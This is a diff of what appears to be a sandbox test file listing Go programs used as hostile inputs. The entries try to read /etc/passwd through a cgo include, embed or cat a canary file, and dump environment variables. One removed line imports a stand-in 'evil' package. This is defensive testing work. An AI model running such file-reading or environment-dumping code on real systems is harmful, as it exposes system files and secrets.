@@ -37,7 +37,6 @@ _GO_READS = (
     'package main\n// #include "/etc/passwd"\nimport "C"\nfunc main() {}',
     'package main\nimport _ "embed"\n//go:embed @CANARY@\nvar s string\nfunc main() { println(s) }',
     'package main\nimport ("fmt"; "os")\n//go:generate cat @CANARY@\nfunc main() { b, _ := os.ReadFile("@CANARY@"); fmt.Println(string(b), os.Environ()) }',
-    'package main\nimport "example.com/evil"\nfunc main() { evil.Do() }',
 )
 
 
